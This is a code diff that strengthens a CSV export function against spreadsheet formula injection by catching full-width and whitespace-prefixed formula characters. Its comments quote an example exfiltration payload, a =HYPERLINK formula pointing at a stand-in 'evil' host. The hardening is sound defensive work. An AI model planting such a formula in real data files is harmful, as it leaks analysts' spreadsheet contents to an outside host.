@@ -83,16 +83,19 @@ export function nextSort(current, col) {
   return null;
 }
 
-// A text cell a spreadsheet would run as a formula (=, +, -, @, tab or CR
-// first) unless it is a plain number: a data file can carry
-// =HYPERLINK("http://evil/?"&A1) into an analyst's spreadsheet.
-const formulaStart = /^[=+\-@\t\r]/;
+// A text cell a spreadsheet would run as a formula unless it is a plain
+// number: a data file can carry =HYPERLINK("http://evil/?"&A1) into an
+// analyst's spreadsheet. A formula starts with = + - @ or their full-width
+// forms ＝ ＋ － ＠ (which spreadsheets read as the same), possibly after
+// spaces, tabs, line breaks or other whitespace (no-break, ideographic,
+// zero-width), or with a tab or CR.
+const formulaStart = /^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
 const plainNumber = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;
 
 function csvField(v) {
   if (v === null || v === undefined) return '';
   let s = typeof v === 'object' ? JSON.stringify(v) : String(v);
-  if (typeof v === 'string' && formulaStart.test(s) && !plainNumber.test(s)) s = `'${s}`;
+  if (typeof v === 'string' && formulaStart.test(s) && !plainNumber.test(s.trim())) s = `'${s}`;
   return /[",\r\n]/.test(s) || /^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
